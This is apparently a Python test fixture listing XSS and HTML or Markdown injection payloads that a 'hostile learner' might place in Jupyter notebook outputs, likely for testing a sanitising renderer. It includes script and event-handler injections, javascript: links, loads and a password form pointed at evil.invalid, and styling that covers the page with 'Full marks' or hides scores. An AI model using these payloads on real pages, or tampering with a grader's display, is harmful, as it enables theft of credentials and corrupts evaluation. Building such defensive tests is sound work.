"""What a hostile learner puts into outputs: each would set `window.hit`, fetch from evil.invalid, or cover the page."""

from __future__ import annotations

import base64

HIT = "window.hit=1"
FRAME = base64.b64encode(f"<script>top.{HIT}</script>".encode()).decode()
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

HTML = {
    "script": f"<script>{HIT}</script>",
    "script from elsewhere": "<script src='http://evil.invalid/x.js'></script>",
    "event handler": f"<img src=x onerror='{HIT}'>",
    "event handler without quotes": f"<details open ontoggle={HIT}>x</details>",
    "handler after a slash": f"<img/src=x/onerror={HIT}>",
    "handler on a card's element": f'<b class="n2b n2b-right" autofocus onfocus="{HIT}" onclick="{HIT}">4 of 4</b>',
    "javascript link": f'<a href="javascript:{HIT}" id="l">click</a>',
    "javascript link in pieces": f'<a href="java&#10;scr&Tab;ipt&colon;{HIT}">click</a>',
    "javascript link after a control character": f'<a href="\x01javascript:{HIT}">click</a>',
    "data link": f'<a href="data:text/html;base64,{FRAME}">click</a>',
    "frame": f"<iframe srcdoc='<script>top.{HIT}</script>'></iframe>",
    "frame of data": f"<iframe src='data:text/html;base64,{FRAME}'></iframe>",
    "object": f"<object data='data:text/html;base64,{FRAME}'></object><embed src='data:text/html;base64,{FRAME}'>",
    "refresh": '<meta http-equiv="refresh" content="0;url=http://evil.invalid/">',
    "base": '<base href="http://evil.invalid/">',
    "form": '<form action="http://evil.invalid/"><input name="password"><button autofocus>Log in again</button></form>',
    "picture from elsewhere": '<img src="http://evil.invalid/seen.png"><img srcset="//evil.invalid/a 2x">',
    "style from elsewhere": '<link rel="stylesheet" href="//evil.invalid/x"><style>@import "//evil.invalid/y";</style>',
    "style that covers the page": '<div style="position:fixed;inset:0;background:#fff">Full marks</div>',
    "style sheet that hides points": "<style>.points,.score{display:none}</style>",
    "svg": f"<svg onload='{HIT}'><script>{HIT}</script><foreignObject><img src onerror='{HIT}'></foreignObject></svg>",
    "svg that animates a link": f"<svg><a><animate attributeName=href values=javascript:{HIT} /><text></a></svg>",
    "mathml": f"<math><mtext><table><mglyph><style><img src=x onerror='{HIT}'></style></mglyph></table></mtext></math>",
    "mathml link": f'<math href="javascript:{HIT}">x</math>',
    "comment that ends early": f"<!--><img src=x onerror='{HIT}'>-->",
    "noscript": f"<noscript><p title=\"</noscript><img src=x onerror='{HIT}'>\"></noscript>",
    "template": f"<template><script>{HIT}</script></template>",
    "textarea": f"<textarea></textarea><img src=x onerror='{HIT}'></textarea>",
    "title": f"<title></title><img src=x onerror='{HIT}'>",
    "unclosed attribute": f"<img src=x title='a onerror={HIT} //",
    "picture of svg": f"<img src='data:image/svg+xml;base64,{FRAME}'>",
    "video": f"<video src='http://evil.invalid/v' onerror='{HIT}'></video><audio src='//evil.invalid/a'></audio>",
    "names of the page": '<img id="score" name="getElementById"><a id="statusmessage">x</a><input id="check-mle">',
    "formula that links": f"<p>$\\href{{javascript:{HIT}}}{{x}}$</p>",
    "formula in entities": f"<p>&#36;&#92;href{{javascript:{HIT}}}{{x}}&#36;</p>",
    "formula that paints": "<p>$\\rlap{\\rule{900em}{900em}}$ $\\require{action}\\style{position:fixed}{x}$</p>",
}

MARKDOWN = {
    "html": f"<script>{HIT}</script> <img src=x onerror='{HIT}'>",
    "html in a block": f"<div>\n<script>{HIT}</script>\n</div>",
    "link": f"[click](javascript:{HIT})",
    "link in pieces": f"[click](java&#115;cript&colon;{HIT})",
    "link with a backslash": f"[click](javascript\\:{HIT})",
    "link in angle brackets": f"[click](<javascript:{HIT}>)",
    "link by reference": f"[click][r]\n\n[r]: javascript:{HIT}",
    "autolink": f"<javascript:{HIT}>",
    "data link": f"[click](data:text/html;base64,{FRAME})",
    "picture": "![seen](http://evil.invalid/seen.png)",
    "picture by reference": "![seen][p]\n\n[p]: http://evil.invalid/seen.png",
    "picture that breaks out": f'![x](attachment:x"onerror="{HIT}.png)',
    "formula": f"$\\href{{javascript:{HIT}}}{{x}}$ \\$\\\\href{{javascript:{HIT}}}{{x}}\\$",
    "code that is none": f"`` ` <img src=x onerror='{HIT}'>",
    "table": f"| a |\n|---|\n| <img src=x onerror='{HIT}'> |",
}


def shown(data: dict[str, str], metadata: dict[str, object] | None = None) -> dict[str, object]:
    """An output as a notebook holds it."""
    return {"output_type": "display_data", "data": data, "metadata": metadata or {}}


def outputs() -> list[dict[str, object]]:
    """Every HTML above as an output, and what needs no HTML."""
    found = [shown({"text/html": html, "text/plain": name}) for name, html in HTML.items()]
    isolated = shown({"text/html": f"<script>top.{HIT}</script>"}, {"text/html": {"isolated": True}})
    wide = shown({"image/png": PNG}, {"image/png": {"width": f"1 onerror={HIT}", "alt": f'"><script>{HIT}</script>'}})
    return [
        *found,
        isolated,
        wide,
        shown({"application/javascript": HIT}),
        shown({"image/svg+xml": HTML["svg"]}),
        shown({"image/png": f'x"onerror="{HIT}'}),
        shown({"image/png": [PNG[:40], PNG[40:]]}),
        shown({"text/latex": f"</div><script>{HIT}</script>"}),
        shown({"text/markdown": "\n\n".join(MARKDOWN.values())}),
        shown({"application/vnd.jupyter.widget-view+json": "</script><script>" + HIT + "</script>"}),
        {
            "output_type": "stream",
            "name": f'"><script>{HIT}</script>',
            "text": f"\x1b]8;;javascript:{HIT}\x07x\x1b]8;;\x07<script>{HIT}</script>",
        },
        {
            "output_type": "error",
            "ename": f"<script>{HIT}</script>",
            "evalue": "",
            "traceback": [f"\x1b[31m<img src=x onerror='{HIT}'>"],
        },
    ]
